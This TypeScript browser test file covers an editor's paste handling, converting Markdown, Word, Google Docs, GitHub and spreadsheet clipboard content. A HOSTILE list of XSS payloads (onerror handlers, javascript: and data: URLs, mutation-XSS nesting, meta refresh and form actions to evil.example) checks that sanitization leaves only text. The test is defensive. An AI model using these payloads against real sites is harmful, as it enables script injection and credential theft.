// What is pasted becomes what it means, and nothing that a stranger put into it runs, loads or stays.
import { expect, type Person, story } from '../support/browser.ts'

/** A paste as the browser makes one, with exactly these bytes: the clipboard itself would clean the HTML first. */
async function paste(person: Person, data: Readonly<Record<string, string>>): Promise<void> {
  await person.text.evaluate((element, given) => {
    const clipboardData = new DataTransfer()
    for (const [type, text] of Object.entries(given)) clipboardData.setData(type, text)
    element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
  }, data)
}

async function clear({ page, text }: Person): Promise<void> {
  await text.focus()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.press('Backspace')
  await page.keyboard.press('Backspace')
}

const MARKDOWN = `# Title

Some **bold** and \`code\`.

- [x] done
- [ ] open

| a | b |
|---|---|
| 1 | 2 |

\`\`\`ts
const one = 1
\`\`\`
`

story(
  'Markdown becomes structure, in one step of undo; as plain text and in code it stays',
  async ({ relay, arrive }) => {
    const ada = await arrive()
    await ada.beginToWrite(relay.url)
    const { keyboard } = ada.page
    await keyboard.type('before ')
    await ada.page.evaluate((text) => navigator.clipboard.writeText(text), MARKDOWN)
    await keyboard.press('ControlOrMeta+Enter')
    await keyboard.press('ControlOrMeta+z')
    await keyboard.press('ControlOrMeta+v')
    await expect(ada.text.getByRole('heading', { level: 1 })).toHaveText('Title')
    await expect(ada.text.locator('strong')).toHaveText('bold')
    await expect(ada.text.getByRole('checkbox')).toHaveCount(2)
    await expect(ada.text.getByRole('checkbox', { name: 'Task: done' })).toBeChecked()
    await expect(ada.text.locator('th')).toHaveText(['a', 'b'])
    await expect(ada.text.locator('pre code.language-ts')).toHaveText('const one = 1')
    await expect(ada.text.locator('pre .hljs-keyword')).toHaveText('const')
    await keyboard.press('ControlOrMeta+z')
    expect((await ada.words()).trim()).toBe('before')

    await clear(ada)
    await keyboard.press('ControlOrMeta+Shift+v')
    await expect(ada.text).toContainText('# Title')
    await expect(ada.text).toContainText('**bold**')
    await expect(ada.text.locator('h1, strong, table')).toHaveCount(0)

    await clear(ada)
    await keyboard.type('```js ')
    await keyboard.press('ControlOrMeta+v')
    await expect(ada.text.locator('pre')).toContainText('| 1 | 2 |')
    expect(await ada.text.locator('pre').evaluate((pre) => pre.textContent?.split('\n').length)).toBeGreaterThan(12)

    await clear(ada)
    await ada.page.evaluate(() => navigator.clipboard.writeText('a * b * c, 2 > 1, snake_case_name - all text'))
    await keyboard.press('ControlOrMeta+v')
    expect(await ada.words()).toBe('a * b * c, 2 > 1, snake_case_name - all text')
  },
)

const WORD_LIST = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p{mso-x:1}</style></head><body><div class=WordSection1>
<p class=MsoNormal><b>Agenda</b><o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp;</span></span><![endif]>Apples</p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><span style='mso-list:Ignore'>o<span>&nbsp;</span></span>Red</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·</span>Pears</p>
<p class=MsoNormal>After</p></div></body></html>`

const GOOGLE_DOC = `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr" style="line-height:1.38"><span style="font-size:16pt;font-weight:400">Plan</span></h2><p dir="ltr"><span style="font-weight:700;font-style:italic;text-decoration:underline">Strong</span><span style="font-weight:400"> and plain</span></p><ul><li role="checkbox" aria-checked="true"><p><span>Bread</span></p></li></ul></b>`

const GITHUB = `<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" checked=""> shipped</li><li class="task-list-item"><input type="checkbox"> open</li></ul><div class="highlight highlight-source-ts"><pre><span class="pl-k">const</span> a = 1</pre></div>`

const SHEET = `<google-sheets-html-origin><style>td{border:1px}</style><table xmlns="http://www.w3.org/1999/xhtml" dir="ltr" border="1" style="table-layout:fixed"><colgroup><col width="100"><col width="100"></colgroup><tbody><tr><td data-sheets-value="{}">Name</td><td>Age</td></tr><tr><td>Ada</td><td style="font-weight:bold">36</td></tr></tbody></table>`

story('what Word, Google Docs, GitHub and a spreadsheet copy becomes ours', async ({ relay, arrive }) => {
  const ada = await arrive()
  await ada.beginToWrite(relay.url)
  await paste(ada, { 'text/html': WORD_LIST, 'text/plain': 'x' })
  await expect(ada.text.locator('p').first().locator('strong')).toHaveText('Agenda')
  await expect(ada.text.locator(':scope > .chunk > ul > li')).toHaveText(['ApplesRed', 'Pears'])
  await expect(ada.text.locator('ul ul > li')).toHaveText('Red')
  await expect(ada.text).not.toContainText('·')

  await clear(ada)
  await paste(ada, { 'text/html': GOOGLE_DOC, 'text/plain': 'x' })
  await expect(ada.text.locator('h2')).toHaveText('Plan')
  await expect(ada.text.locator('h2 strong')).toHaveCount(0)
  await expect(ada.text.locator('strong')).toHaveText('Strong')
  await expect(ada.text.locator('em')).toHaveText('Strong')
  await expect(ada.text.locator('u')).toHaveText('Strong')
  await expect(ada.text.getByRole('checkbox', { name: 'Task: Bread' })).toBeChecked()

  await clear(ada)
  await paste(ada, { 'text/html': GITHUB, 'text/plain': 'x' })
  await expect(ada.text.getByRole('checkbox')).toHaveCount(2)
  await expect(ada.text.getByRole('checkbox').first()).toBeChecked()
  await expect(ada.text.locator('pre code.language-ts')).toHaveText('const a = 1')

  await clear(ada)
  await paste(ada, { 'text/html': SHEET, 'text/plain': 'Name\tAge\nAda\t36' })
  await expect(ada.text.locator('td')).toHaveText(['Name', 'Age', 'Ada', '36'])
  await clear(ada)
  await paste(ada, { 'text/plain': 'Name\tAge\r\nBen\t<b>7</b>\r\n' })
  await expect(ada.text.locator('td')).toHaveText(['Name', 'Age', 'Ben', '<b>7</b>'])
})

const HOSTILE = [
  '<math><mi>kept</mi><annotation encoding="application/x-tex">hidden words</annotation></math>',
  '<img src=x onerror="window.hit = 1">kept',
  '<script>window.hit = 1</script>kept',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>kept',
  '<svg><style><img src=x onerror="window.hit=1"></style></svg>kept',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">kept',
  '<iframe src="javascript:parent.hit = 1" srcdoc="<script>parent.hit = 1</script>"></iframe>kept',
  '<object data="data:text/html,<script>hit=1</script>"></object><embed src="https://evil.example/x.swf">kept',
  '<a href="javascript:window.hit=1">kept</a>',
  '<a href="  java\tscript:window.hit=1">kept</a>',
  '<a href="data:text/html,<script>hit=1</script>">kept</a>',
  '<img src="data:image/svg+xml,<svg onload=hit=1>" alt="kept">',
  '<form action="https://evil.example"><input name=password value=x autofocus onfocus="window.hit=1"><button formaction="javascript:hit=1">go</button></form>kept',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/pixel)" onclick="window.hit=1" class="toolbar" id="root">kept</p>',
  '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">kept',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">kept',
  '<template><img src=x onerror="window.hit=1"></template><noscript><img src=x onerror="window.hit=1"></noscript>kept',
  '<video src=x onerror="window.hit=1" poster="https://evil.example/p"></video><audio autoplay onloadstart="window.hit=1" src=x></audio>kept',
  '<details open ontoggle="window.hit=1"><summary>kept</summary></details>',
  '<p data-pm-slice=\'0 0 ["doc",{"x":1}]\'>kept</p>',
  '<div data-pm-slice="9 9 []"><p>kept</p></div>',
  '<span style="display:none">hidden words</span>kept',
  `${'<div>'.repeat(2_000)}kept${'</div>'.repeat(2_000)}`,
]

story('hostile HTML leaves its words and nothing else', async ({ relay, arrive }) => {
  const ada = await arrive()
  await ada.beginToWrite(relay.url)
  const asked: string[] = []
  ada.page.on('request', (request) => asked.push(request.url()))
  for (const html of HOSTILE) {
    await clear(ada)
    await paste(ada, { 'text/html': html, 'text/plain': 'plain' })
    const left = await ada.text.evaluate((element) => ({
      html: element.innerHTML,
      said: element.textContent + [...element.querySelectorAll('img')].map((image) => image.alt).join(''),
      strange: [...element.querySelectorAll('.chunk *')]
        .filter(
          (one) =>
            !one.classList.contains('ProseMirror-separator') && !one.classList.contains('ProseMirror-trailingBreak'),
        )
        .flatMap((one) => [
          one.localName,
          ...one.getAttributeNames().map((name) => `${name}=${one.getAttribute(name)}`),
        ]),
    }))
    expect(left.said, html).toContain('kept')
    expect(left.said, html).not.toMatch(/hidden words|window\.hit|hit=1/u)
    const allowed =
      /^(?:p|a|br|img|class=(?:is-empty| )*|data-placeholder=.*|alt=.*|rel=.*|target=_blank|draggable=.*|contenteditable=false)$/u
    expect(
      left.strange.filter((said) => !allowed.test(said)),
      left.html,
    ).toEqual([])
  }
  await ada.savedOnRelay()
  expect(await ada.page.evaluate(() => 'hit' in window)).toBe(false)
  expect(asked.filter((url) => /evil|javascript:|data:/u.test(url))).toEqual([])
})
